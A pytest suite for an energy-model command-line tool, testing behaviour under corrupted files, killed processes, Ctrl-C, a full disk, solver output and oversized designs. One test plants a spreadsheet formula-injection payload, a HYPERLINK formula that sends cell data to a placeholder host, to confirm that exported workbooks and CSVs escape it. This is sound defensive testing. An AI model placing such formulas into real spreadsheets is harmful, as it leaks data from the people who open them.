"""Reliability with real processes and real damage: a sweep store corrupted at random gives
the identical table or one line naming the file; kill -9 of a sweep leaves no worker; Ctrl-C
prints one line; a full disk (a small tmpfs) ends every command with one line and nothing
left; no formula from user text reaches a workbook or CSV; no solver banner on stdout;
oversized designs are refused at once."""

from __future__ import annotations

import csv
import io
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pandas as pd
import psutil
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from energymodel.errors import InputError
from energymodel.sweeps import InProcess, run

from .conftest import EXAMPLES, SCENARIOS
from .test_damaged_folders import cli, edit_json

EXE = Path(sys.executable).with_name("energymodel")
COMMAND = [str(EXE)] if EXE.exists() else [sys.executable, "-m", "energymodel"]
SPEC = {"name": "tiny", "scenario": str(EXAMPLES / "monopoly.yaml"),
        "design": {"method": "grid", "levels": 2},
        "inputs": [{"entity": "buyer", "parameter": "intercept", "low": 8, "high": 12},
                   {"entity": "supplier", "parameter": "mc_intercept", "low": 1, "high": 3}],
        "outputs": ["npv_export_revenue", "npv_export_profit"]}


def energymodel(*args: str | Path, **kw) -> subprocess.CompletedProcess:
    return subprocess.run([*COMMAND, *map(str, args)], capture_output=True, text=True,
                          timeout=120, **kw)


def write_spec(folder: Path, **changes) -> Path:
    path = folder / "tiny.yaml"
    path.write_text(yaml.safe_dump({**SPEC, **changes}))
    return path


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> tuple[run.Plan, Path, pd.DataFrame]:
    """The plan of a four-point sweep, its finished folder and its table."""
    folder = tmp_path_factory.mktemp("store")
    plan = run.plan(write_spec(folder))
    table = run.execute(plan, InProcess(), folder / "tiny", False).table
    return plan, folder / "tiny", table


def corrupt(kind: str, path: Path, at: float, donor: Path) -> None:
    data = path.read_bytes()
    k = int(at * len(data))
    if kind == "truncate":
        path.write_bytes(data[:k])
    elif kind == "flip":
        path.write_bytes(data[:k] + bytes([data[k] ^ 0x5A]) + data[k + 1:] if data else b"x")
    elif kind == "swap":
        path.write_bytes(donor.read_bytes())
    elif kind == "delete":
        path.unlink()
    elif kind == "number":  # a digit changed: a valid record with another output
        text = data.decode("latin-1")
        path.write_bytes(text.replace(".", "9", 1).encode("latin-1"))
    elif kind == "stray":
        shutil.copy(path, path.with_name(f"{int(at * 90) + 4:06d}.json"))


FILES = ["points/000000.json", "points/000001.json", "points/000002.json",
         "points/000003.json", "design.parquet", "manifest.json", "results.parquet"]
DAMAGE = st.lists(st.tuples(st.sampled_from(["truncate", "flip", "swap", "delete", "number",
                                             "stray"]),
                            st.sampled_from(FILES), st.floats(0, 0.999)),
                  min_size=1, max_size=3)


@settings(max_examples=15, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(damage=DAMAGE)
def test_a_corrupted_store_gives_the_table_or_one_line(tmp_path_factory, store, damage):
    """Resume and analyze after random damage: the identical table, or one InputError line
    naming a file of the folder; never a different table."""
    plan, finished, reference = store
    out = tmp_path_factory.mktemp("corrupt") / "tiny"
    shutil.copytree(finished, out)
    for kind, name, at in damage:
        if (out / name).is_file():
            corrupt(kind, out / name, at, out / "points" / "000000.json")
    try:
        table = run.execute(plan, InProcess(), out, False).table
    except InputError as error:
        assert "\n" not in str(error) and str(out) in str(error), error
        return
    pd.testing.assert_frame_equal(table, reference)
    pd.testing.assert_frame_equal(pd.read_parquet(out / "results.parquet"), reference)
    from energymodel.sweeps.store import Store

    finished_table, _ = Store(out).finished()
    pd.testing.assert_frame_equal(finished_table, reference)


def descendants(process: subprocess.Popen) -> list[psutil.Process]:
    return psutil.Process(process.pid).children(recursive=True)


def gone(processes: list[psutil.Process], within: float) -> list[psutil.Process]:
    """The processes still running (not zombies) after `within` seconds."""
    deadline = time.monotonic() + within
    while True:
        alive = [p for p in processes if p.is_running()
                 and p.status() != psutil.STATUS_ZOMBIE]
        if not alive or time.monotonic() > deadline:
            return alive
        time.sleep(0.1)


def started_sweep(command: list[str], points: Path) -> subprocess.Popen:
    """A sweep started in its own session, returned once it has finished a point."""
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                               text=True, start_new_session=True)
    deadline = time.monotonic() + 120
    while not (points.is_dir() and any(points.glob("*.json"))):
        assert process.poll() is None and time.monotonic() < deadline, process.stderr.read()
        time.sleep(0.05)
    return process


def slow_spec(folder: Path) -> Path:
    """Sixty-four points: a sweep that is still running a while after its first point."""
    return write_spec(folder, design={"method": "grid", "levels": 8},
                      inputs=[*SPEC["inputs"], {"entity": "buyer", "parameter": "slope",
                                                "low": 0.05, "high": 0.2}][::2])


def test_kill_9_of_a_sweep_leaves_no_worker(tmp_path):
    sweep = started_sweep([*COMMAND, "sweep", str(slow_spec(tmp_path)), "--out",
                           str(tmp_path / "out"), "--workers", "1", "--no-progress"],
                          tmp_path / "out" / "points")
    workers = descendants(sweep)
    assert workers, "no worker processes"
    sweep.kill()
    sweep.wait()
    assert gone(workers, within=5) == []


@pytest.mark.slow
def test_kill_9_of_a_dask_local_cluster_sweep_leaves_no_worker(tmp_path):
    script = tmp_path / "dask_sweep.py"
    script.write_text(
        "from distributed import Client, LocalCluster\n"
        "from energymodel.sweeps import Dask, sweep\n"
        "if __name__ == '__main__':\n"
        "    with LocalCluster(n_workers=1, threads_per_worker=1, processes=True,\n"
        "                      dashboard_address=None) as cluster, Client(cluster) as c:\n"
        f"        sweep({str(slow_spec(tmp_path))!r}, Dask(c), out={str(tmp_path / 'out')!r})\n")
    sweep = started_sweep([sys.executable, str(script)], tmp_path / "out" / "points")
    workers = descendants(sweep)
    assert workers, "no worker processes"
    sweep.kill()
    sweep.wait()
    assert gone(workers, within=5) == []


def test_ctrl_c_stops_a_sweep_with_one_line(tmp_path):
    """SIGINT to the whole process group, as a terminal's Ctrl-C sends it."""
    sweep = started_sweep([*COMMAND, "sweep", str(slow_spec(tmp_path)), "--out",
                           str(tmp_path / "out"), "--workers", "1", "--no-progress"],
                          tmp_path / "out" / "points")
    workers = descendants(sweep)
    os.killpg(sweep.pid, signal.SIGINT)
    err = sweep.stderr.read()
    assert sweep.wait(timeout=30) == 130, err
    assert err == ("interrupted by SIGINT: sweep stopped: its finished points are kept; run "
                   "the same command again to solve the rest\n")
    assert gone(workers, within=5) == []
    assert not [p for p in (tmp_path / "out" / "points").iterdir() if p.name.startswith(".")]


@pytest.fixture
def full_disk(tmp_path):
    """A 1 MiB tmpfs filled to the last byte (root may mount one; else the test skips)."""
    disk = tmp_path / "disk"
    disk.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(disk)],
                             capture_output=True, text=True)
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {mounted.stderr.strip()}")
    try:
        with open(disk / "filler", "wb", buffering=0) as filler:
            try:
                while True:
                    filler.write(b"\0" * 4096)
            except OSError:
                pass
        yield disk
    finally:
        subprocess.run(["umount", "-l", str(disk)], check=False)


def test_a_full_disk_ends_every_command_in_one_line(full_disk, textbook):
    """export-model, run, report, compare and sweep into a full disk: exit 2, one line
    naming the cause, and nothing left on the disk (no partial file, no folder)."""
    spec = write_spec(full_disk.parent)
    commands = {
        "export-model": ["export-model", EXAMPLES / "competitive.yaml", "--out",
                         full_disk / "model.mps"],
        "run": ["run", EXAMPLES / "competitive.yaml", "--out", full_disk / "a" / "results"],
        "report": ["report", textbook / "competitive", "--out", full_disk / "report",
                   "--no-pdf"],
        "compare": ["compare", textbook / "competitive", "--out", full_disk / "cmp"],
        "sweep": ["sweep", spec, "--out", full_disk / "sweep", "--executor", "inline",
                  "--no-progress"],
    }
    for command, args in commands.items():
        code, _, err = cli(*args)
        assert code == 2, (command, err)
        assert err.splitlines()[-1].startswith("error: ") and "No space left on device" in \
            err.splitlines()[-1] and "internal error" not in err, err
        assert sorted(os.listdir(full_disk)) == ["filler"], (command, os.listdir(full_disk))


def test_export_model_on_a_full_disk_leaves_no_truncated_file(full_disk):
    """The issue's case: the baseline's 520 KB model on a disk with 64 KB free."""
    (full_disk / "filler").write_bytes(b"\0" * (1024 * 1024 - 64 * 1024))
    code, out, err = cli("export-model", SCENARIOS / "baseline.yaml", "--out",
                         full_disk / "baseline.mps")
    assert code == 2 and out == "", out
    assert err.startswith("error: ") and err.count("\n") == 1 and "No space" in err, err
    assert sorted(os.listdir(full_disk)) == ["filler"]


HYPERLINK = '=HYPERLINK("https://example.invalid/?"&A1,"Click")'


def test_no_formula_from_user_text(tmp_path, textbook):
    """A scenario described like a formula: every workbook cell of text is a string (the
    formula-like ones with the quote prefix), and no CSV cell starts like one. (A name like
    one never gets this far: scenario.json is validated like a scenario file.)"""
    folder = tmp_path / "hostile"
    shutil.copytree(textbook / "competitive", folder)
    edit_json(description=HYPERLINK)(folder / "scenario.json")
    code, _, err = cli("report", folder, "--out", tmp_path / "report", "--no-pdf")
    assert code == 0, err
    seen = []
    for name in ("briefing.xlsx", "iamc.xlsx"):
        book = openpyxl.load_workbook(tmp_path / "report" / name)
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, sheet.title, cell.coordinate)
                    if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "@")):
                        assert cell.data_type == "s" and cell.quotePrefix, cell.value
                        seen.append(cell.value)
    assert HYPERLINK in seen
    for row in csv.reader(io.StringIO((tmp_path / "report" / "iamc.csv").read_text())):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    edit_json(name="=1+2")(folder / "scenario.json")
    code, _, err = cli("report", folder, "--out", tmp_path / "report2", "--no-pdf")
    assert code == 2 and "scenario.json: name" in err, err


def test_a_wrong_option_is_one_usage_line(monkeypatch, capsys):
    from energymodel import cli as command

    monkeypatch.setattr(command.progress, "enable", lambda: None)  # leaves stderr alone
    monkeypatch.setattr(sys, "argv", ["energymodel", "run", "x.yaml", "--bogus"])
    with pytest.raises(SystemExit) as stop:
        command.main()
    out, err = capsys.readouterr()
    assert stop.value.code == 2 and out == ""
    assert err == ("error: energymodel run: No such option: --bogus (Possible options: "
                   "--out) (see energymodel run --help)\n")


def test_no_solver_banner(tmp_path):
    exported = energymodel("export-model", EXAMPLES / "competitive.yaml", "--out",
                           tmp_path / "m.lp")
    assert exported.returncode == 0 and exported.stdout.startswith("Wrote "), exported
    assert exported.stdout.count("\n") == 1 and "HiGHS" not in exported.stdout + \
        exported.stderr
    infeasible = tmp_path / "infeasible.yaml"
    infeasible.write_text(f"extends: {EXAMPLES / 'competitive.yaml'}\nname: infeasible\n"
                          "overrides:\n  - {entity: link, parameter: min_flow, year: 2025, "
                          "value: 2000}\n")
    solved = energymodel("run", infeasible, cwd=tmp_path)
    assert solved.returncode == 3 and solved.stdout == "", solved
    assert solved.stderr.count("\n") == 1 and "model is infeasible" in solved.stderr
    assert sorted(os.listdir(tmp_path)) == ["infeasible.yaml", "m.lp"]  # no results/


@pytest.mark.parametrize(("design", "inputs", "points"), [
    ({"method": "grid", "levels": 100}, 5, "10,000,000,000 points"),
    ({"method": "latin", "n": 10_000_000}, 1, "10,000,000 points"),
])
def test_oversized_designs_are_refused_at_once(tmp_path, design, inputs, points):
    axes = [{"field": "discount_rate", "low": 0.01, "high": 0.1, "name": f"r{i}"}
            for i in range(inputs)]
    spec = write_spec(tmp_path, design=design, inputs=axes)
    started = time.perf_counter()
    with pytest.raises(InputError) as error:
        run.plan(spec)
    seconds = time.perf_counter() - started
    assert f"design: {points}, more than the limit of 100,000" in str(error.value)
    assert "years" in str(error.value) or "days" in str(error.value)
    assert seconds < 5 and sorted(os.listdir(tmp_path)) == ["tiny.yaml"]
    print(f"{points}: refused in {seconds:.2f} s: {error.value}")
